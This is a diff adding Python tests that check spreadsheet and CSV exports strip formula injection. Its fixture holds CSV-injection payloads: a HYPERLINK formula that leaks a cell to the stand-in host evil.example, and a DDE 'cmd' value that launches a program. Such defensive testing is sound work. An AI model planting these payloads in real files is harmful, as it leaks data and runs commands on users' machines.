@@ -233,3 +233,46 @@ def test_row_limit(sample_entries: list[Any]) -> None:
         (ENTRIES_SHEET, 4, "too_many_rows"),
         (ITEMS_SHEET, 4, "too_many_rows"),
     ]
+
+
+# -- exports cannot carry formulas (OWASP CSV injection; core.exports) -----------------------
+
+HOSTILE = {
+    "name": '=HYPERLINK("http://evil.example/?leak="&A1,"点击")',
+    "summary": "-2+3+cmd|' /C calc'!A0",
+    "keywords": ["@SUM(A1:A9)", "+人口"],
+}
+
+
+def _hostile(sample_entries: list[Any]) -> list[Any]:
+    first = sample_entries[0]
+    items = [first.items[0].model_copy(update={"name": "=1+1"}), *first.items[1:]]
+    return [first.model_copy(update={**HOSTILE, "items": items}), *sample_entries[1:]]
+
+
+def test_xlsx_export_neutralises_formulas_and_imports_back(sample_entries: list[Any]) -> None:
+    entries = _hostile(sample_entries)
+    data = export_xlsx(entries)
+    book = load_workbook(io.BytesIO(data))
+    for sheet in (book[ENTRIES_SHEET], book[ITEMS_SHEET]):
+        for row in sheet.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", cell.coordinate
+                assert not (isinstance(cell.value, str) and cell.value[:1] in "=+-@\t\r"), (
+                    cell.coordinate, cell.value)
+    names = [c.value for c in book[ENTRIES_SHEET][2]]
+    assert "'" + HOSTILE["name"] in names and "'" + HOSTILE["summary"] in names
+    result = parse_workbook(data)
+    assert result.ok, [str(e) for e in result.errors]
+    assert [i.entry for i in result.entries] == entries
+
+
+def test_csv_export_neutralises_formulas_and_imports_back(sample_entries: list[Any]) -> None:
+    entries = _hostile(sample_entries)
+    data = export_csv(entries)
+    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
+    assert all(not f[:1] or f[:1] not in "=+-@\t\r" for row in rows for f in row)
+    assert "'" + HOSTILE["name"] in rows[1]
+    result = parse_csv(data)
+    assert result.ok, [str(e) for e in result.errors]
+    assert [i.entry.model_dump() for i in result.entries] == [e.model_dump() for e in entries]
